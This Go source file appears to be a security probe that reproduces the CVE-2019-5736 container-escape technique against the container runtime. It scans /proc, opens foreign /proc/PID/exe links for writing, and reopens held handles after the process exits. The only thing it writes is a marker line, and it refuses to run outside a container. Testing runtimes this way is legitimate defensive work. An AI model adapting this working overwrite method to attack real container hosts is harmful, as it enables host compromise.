package probe

import (
	"errors"
	"fmt"
	"os"
	"slices"
	"strconv"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

// ExeWriteMarker is what ExeWrite appends to an executable it manages to open for writing.
const ExeWriteMarker = "\n# written by probe exe-write\n"

// ExeWriteResult is the result of ExeWrite.
type ExeWriteResult struct {
	Result
	Scans   int         `json:"scans"`   // passes over /proc
	Targets []ExeTarget `json:"targets"` // sorted by pid
	Written int         `json:"written"` // bytes written into a target's executable: the attack worked
}

// ExeTarget is another process whose executable is not a file of this container: seen from
// inside a container, that is the container runtime's own binary (CVE-2019-5736).
type ExeTarget struct {
	PID int    `json:"pid"`
	Exe string `json:"exe,omitempty"` // readlink /proc/PID/exe
	// Refused: the errno of readlink /proc/PID/exe when the kernel would not even show it
	// (EACCES: the process is not dumpable, see ptrace(2) "access mode checking").
	Refused string `json:"refused,omitempty"`
	// OpenErrors are the distinct errnos of open(/proc/PID/exe, O_WRONLY) while it ran (ENOENT,
	// the process exited between readlink and open, is not an answer and is left out).
	OpenErrors []string `json:"open_errors,omitempty"`
	Held       bool     `json:"held"` // an O_PATH handle on its executable was kept
	// Exited: the process was gone while its executable was still held; ReopenErrors are then
	// the distinct errnos of reopening the handle for writing (no more ETXTBSY to stop it).
	Exited       bool     `json:"exited"`
	ReopenErrors []string `json:"reopen_errors,omitempty"`
}

// Human is the result for people.
func (r ExeWriteResult) Human() string {
	var b strings.Builder
	fmt.Fprintf(&b, "exe-write: %d scans, %d bytes written: %s", r.Scans, r.Written, r.outcome())
	for _, t := range r.Targets {
		fmt.Fprintf(&b, "\n  pid %d %s refused=%s open=%v held=%s exited=%s reopen=%v", t.PID, orNone(t.Exe),
			orNone(t.Refused), t.OpenErrors, yesNo(t.Held), yesNo(t.Exited), t.ReopenErrors)
	}
	return b.String()
}

// ExeWrite is the CVE-2019-5736 attack on a container runtime, for d: it scans /proc over and
// over for other processes whose executable this container cannot name, and tries to open
// each one's /proc/PID/exe for writing, appending ExeWriteMarker if that ever works. It keeps
// an O_PATH handle on each such executable, and once the process is gone (and the kernel no
// longer refuses writes to a running program with ETXTBSY), it reopens the handle for writing
// through /proc/self/fd, which is how the real exploit got through.
//
// With release set, it opens that FIFO for reading as soon as it holds a handle: a process
// blocked opening it for writing (a runtime made to run as the container's program by a
// `#!/proc/self/exe` script, say) then goes on and exits.
//
// It only ever writes to executables that are not files of its own container; in a test, a
// runtime without the defences would see its own freshly built binary changed, nothing else.
func ExeWrite(d time.Duration, release string) ExeWriteResult {
	if err := insideContainer(); err != nil {
		var res ExeWriteResult
		res.done(err)
		return res
	}
	a := &exeAttack{targets: map[int]*ExeTarget{}, held: map[int]int{}, self: os.Getpid()}
	defer a.close()
	released := release == ""
	for deadline := time.Now().Add(d); time.Now().Before(deadline); a.res.Scans++ {
		a.scan()
		if !released && len(a.held) > 0 {
			// Non-blocking: a FIFO opens for reading at once, and releases a blocked writer.
			fd, err := unix.Open(release, unix.O_RDONLY|unix.O_NONBLOCK|unix.O_CLOEXEC, 0)
			if err != nil {
				a.res.done(&os.PathError{Op: "open", Path: release, Err: err})
				return a.result()
			}
			a.fifo, released = fd, true
		}
		a.reopenExited()
		time.Sleep(200 * time.Microsecond)
	}
	a.res.OK = true
	return a.result()
}

// initialPidNamespace is the inode of the host's pid namespace (PROC_PID_INIT_INO in
// linux/proc_ns.h): the same on every Linux system.
const initialPidNamespace = 0xEFFFFFFC

// insideContainer refuses to attack from the host's pid namespace: there, every process of the
// machine would be in reach, a program that runs a deleted binary among them.
func insideContainer() error {
	var st unix.Stat_t
	if err := unix.Stat("/proc/self/ns/pid", &st); err != nil {
		return &os.PathError{Op: "stat", Path: "/proc/self/ns/pid", Err: err}
	}
	if st.Ino == initialPidNamespace {
		return errors.New("exe-write runs only inside a container (a pid namespace of its own), not on the host")
	}
	return nil
}

// exeAttack is ExeWrite's state.
type exeAttack struct {
	res     ExeWriteResult
	targets map[int]*ExeTarget
	held    map[int]int // pid -> O_PATH fd on its executable
	self    int
	fifo    int
}

func (a *exeAttack) result() ExeWriteResult {
	a.res.Targets = []ExeTarget{}
	for _, t := range a.targets {
		a.res.Targets = append(a.res.Targets, *t)
	}
	slices.SortFunc(a.res.Targets, func(x, y ExeTarget) int { return x.PID - y.PID })
	return a.res
}

func (a *exeAttack) close() {
	for _, fd := range a.held {
		unix.Close(fd)
	}
	if a.fifo > 0 {
		unix.Close(a.fifo)
	}
}

// scan tries every process in /proc once.
func (a *exeAttack) scan() {
	names, err := readDirNames("/proc")
	if err != nil {
		return
	}
	for _, name := range names {
		pid, err := strconv.Atoi(name)
		if err != nil || pid == a.self {
			continue
		}
		a.try(pid)
	}
}

// try attacks one process, if its executable is foreign.
func (a *exeAttack) try(pid int) {
	link := "/proc/" + strconv.Itoa(pid) + "/exe"
	exe, err := os.Readlink(link)
	if errors.Is(err, unix.EACCES) || errors.Is(err, unix.EPERM) {
		t := a.target(pid)
		t.Refused = errnoName(err)
		return
	}
	if err != nil || ownFile(exe, link) {
		return // gone, a kernel thread, or a program of this container
	}
	t := a.target(pid)
	t.Exe = exe
	fd, err := unix.Open(link, unix.O_WRONLY|unix.O_APPEND|unix.O_CLOEXEC, 0)
	switch {
	case err == unix.ENOENT:
		// The process exited between readlink and open: gone, as above, not refused.
	case err != nil:
		t.OpenErrors = addErrno(t.OpenErrors, err)
	default:
		a.write(fd)
		unix.Close(fd)
	}
	if _, ok := a.held[pid]; !ok {
		if fd, err := unix.Open(link, unix.O_PATH|unix.O_CLOEXEC, 0); err == nil {
			a.held[pid], t.Held = fd, true
		}
	}
}

// reopenExited reopens, for writing, the executables of held processes that are gone.
func (a *exeAttack) reopenExited() {
	for pid, fd := range a.held {
		if !gone(pid) {
			continue
		}
		t := a.targets[pid]
		t.Exited = true
		w, err := unix.Open("/proc/self/fd/"+strconv.Itoa(fd), unix.O_WRONLY|unix.O_APPEND|unix.O_CLOEXEC, 0)
		if err != nil {
			t.ReopenErrors = addErrno(t.ReopenErrors, err)
			continue
		}
		a.write(w)
		unix.Close(w)
	}
}

func (a *exeAttack) target(pid int) *ExeTarget {
	t, ok := a.targets[pid]
	if !ok {
		t = &ExeTarget{PID: pid}
		a.targets[pid] = t
	}
	return t
}

// write appends the marker to an executable opened for writing: the attack worked.
func (a *exeAttack) write(fd int) {
	n, err := unix.Write(fd, []byte(ExeWriteMarker))
	if err == nil {
		a.res.Written += n
	} else {
		a.res.setError(fmt.Errorf("write to an executable opened for writing: %w", err))
	}
}

// ownFile reports whether exe, the text of the /proc/PID/exe link, names in this container
// the very file the link leads to.
func ownFile(exe, link string) bool {
	var named, linked unix.Stat_t
	if unix.Stat(exe, &named) != nil || unix.Stat(link, &linked) != nil {
		return false
	}
	return named.Dev == linked.Dev && named.Ino == linked.Ino
}

// gone reports whether pid has exited: no longer in /proc, or a zombie.
func gone(pid int) bool {
	data, err := os.ReadFile("/proc/" + strconv.Itoa(pid) + "/stat")
	if err != nil {
		return true
	}
	s := string(data)
	i := strings.LastIndexByte(s, ')')
	return i < 0 || len(s) < i+3 || s[i+2] == 'Z'
}

// addErrno adds the errno of err to a list of distinct ones.
func addErrno(list []string, err error) []string {
	name := errnoName(err)
	if name == "" {
		name = err.Error()
	}
	if !slices.Contains(list, name) {
		list = append(list, name)
	}
	return list
}
